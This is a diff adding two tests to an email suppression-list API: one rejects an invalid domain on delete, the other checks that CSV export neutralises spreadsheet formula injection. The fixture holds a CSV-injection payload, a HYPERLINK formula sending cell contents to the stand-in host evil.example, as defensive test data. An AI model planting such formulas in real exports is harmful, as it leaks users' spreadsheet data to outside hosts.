@@ -180,6 +180,44 @@ test('history records every add, repeat, removal and import with who, before and
   assert.equal(h[3].before.address, 'h@example.net');
 });
 
+test('removing with a domain that is not a domain name is refused with 422 and removes nothing', async (t) => {
+  const p = await startPlatform(t);
+  assert.equal((await p.request('POST', '/v1/suppressions', { address: 'a@example.net', reason: 'manual' })).status, 201);
+  const r = await p.request('DELETE', '/v1/suppressions/a@example.net?domain=bad_domain');
+  assert.equal(r.status, 422, JSON.stringify(r.body));
+  assert.deepEqual(r.body.errors, [{ path: '/query/domain', message: 'is not a domain name' }]);
+  assert.deepEqual(
+    (await exportJson(p)).map((e) => [e.address, e.scope]),
+    [['a@example.net', 'tenant']],
+  );
+});
+
+test('a CSV export escapes cells a spreadsheet would run as formulas, and the import restores them', async (t) => {
+  const p = await startPlatform(t);
+  const sources = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2', '@SUM(A1)', "'=already quoted", "it's fine"];
+  const added = await p.request('POST', '/v1/suppressions', {
+    entries: sources.map((source, i) => ({ address: `f${i}@example.net`, reason: 'manual', source })),
+  });
+  assert.equal(added.status, 201, JSON.stringify(added.body));
+  const original = await exportJson(p);
+
+  const csv = (await p.request('GET', '/v1/suppressions/export?format=csv')).body as string;
+  assert.ok(csv.includes('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'), csv);
+  assert.ok(csv.includes(`"''=already quoted"`), csv);
+  assert.ok(csv.includes(",it's fine,"), csv);
+  const cells = csv.split(/\r\n/).flatMap((line) => line.split(','));
+  assert.deepEqual(
+    cells.filter((c) => /^"?[=+\-@\t\r]/.test(c)),
+    [],
+  );
+
+  await wipe(p);
+  const imported = await p.request('POST', '/v1/suppressions/import?format=csv', csv, { 'content-type': 'text/csv' });
+  assert.equal(imported.status, 200, JSON.stringify(imported.body));
+  assert.deepEqual(await exportJson(p), original);
+  assert.deepEqual((await exportJson(p)).map((e) => e.source).sort(), [...sources].sort());
+});
+
 test('the automatic-suppression policy is on by default and settable per tenant', async (t) => {
   const p = await startPlatform(t);
   assert.deepEqual((await p.request('GET', '/v1/suppressions/policy')).body, { suppress_on: { hard_bounce: true, complaint: true } });
